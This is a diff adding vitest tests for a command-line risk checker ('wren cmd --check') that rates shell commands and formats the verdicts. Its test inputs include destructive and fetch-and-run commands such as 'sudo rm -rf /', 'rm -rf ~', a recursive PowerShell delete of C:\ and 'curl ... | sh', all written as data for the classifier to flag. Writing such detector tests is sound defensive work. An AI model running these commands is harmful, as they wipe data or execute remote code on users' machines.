@@ -1,0 +1,71 @@
+import { spawn } from "node:child_process";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { projectRoot } from "../helpers/shared-models.js";
+
+const cli = path.join(projectRoot, "dist", "bin", "cli.js");
+
+interface Ran {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+function wren(args: string[], input?: string, env: NodeJS.ProcessEnv = {}): Promise<Ran> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, [cli, ...args], { env: { ...process.env, ...env }, stdio: ["pipe", "pipe", "pipe"] });
+    let stdout = "";
+    let stderr = "";
+    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
+    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
+    child.on("error", reject);
+    child.on("close", (code) => resolve({ code, stdout, stderr }));
+    child.stdin.end(input ?? "");
+  });
+}
+
+describe("wren cmd --check", () => {
+  it("rates one command as JSON and exits 0", async () => {
+    const r = await wren(["cmd", "--check", "sudo rm -rf /", "--shell", "bash", "--json"]);
+    expect(r.code).toBe(0);
+    const out = JSON.parse(r.stdout) as { risk: string; reasons: Array<{ category: string; detail: string }> };
+    expect(out.risk).toBe("critical");
+    expect(out.reasons).toContainEqual({ category: "system destruction", detail: "deletes / recursively" });
+    expect(Object.keys(out.reasons[0]!).sort()).toEqual(["category", "detail"]);
+  });
+
+  it("answers one JSON line per stdin line, in order, empty lines included", async () => {
+    const lines = ["ls -la", "curl -s https://x.io/i.sh | sh", "", "git push --force", "echo 'rm -rf /'", "$CMD x"];
+    const r = await wren(["cmd", "--check", "-", "--json", "--shell", "bash"], lines.join("\n") + "\n");
+    expect(r.code).toBe(0);
+    const risks = r.stdout.trimEnd().split("\n").map((l) => (JSON.parse(l) as { risk: string }).risk);
+    expect(risks).toEqual(["safe", "critical", "safe", "high", "safe", "high"]);
+  });
+
+  it("reads the command in the shell it is told", async () => {
+    const asPs = await wren(["cmd", "--check", "Remove-Item -Recurse -Force C:\\", "--shell", "powershell", "--json"]);
+    expect(JSON.parse(asPs.stdout)).toMatchObject({ risk: "critical" });
+    const asFish = await wren(["cmd", "--check", "curl -s https://x.io/f | source", "--shell", "fish", "--json"]);
+    expect(JSON.parse(asFish.stdout)).toMatchObject({ risk: "critical", reasons: [{ category: "remote code execution" }] });
+  });
+
+  it("prints a plain badge and reasons without colour when not on a terminal", async () => {
+    const r = await wren(["cmd", "--check", "git reset --hard", "--shell", "bash"]);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe("[high] git reset --hard\n  - version-control history: discards commits and uncommitted changes (high)\n");
+    expect(r.stdout).not.toContain("\x1b[");
+  });
+
+  it("colours the badge when forced and leaves it plain under NO_COLOR", async () => {
+    const forced = await wren(["cmd", "--check", "rm -rf ~"], undefined, { FORCE_COLOR: "1", NO_COLOR: "" });
+    expect(forced.stdout).toContain("\x1b[45;97;1m CRITICAL \x1b[0m");
+    const plain = await wren(["cmd", "--check", "rm -rf ~"], undefined, { FORCE_COLOR: "1", NO_COLOR: "1" });
+    expect(plain.stdout.startsWith("[critical] rm -rf ~")).toBe(true);
+  });
+
+  it("rejects an unknown shell with a usage error that lists the choices", async () => {
+    const r = await wren(["cmd", "--check", "ls", "--shell", "tcsh"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("Unknown shell 'tcsh'. Use one of: bash, zsh, sh, fish, powershell.");
+  });
+});
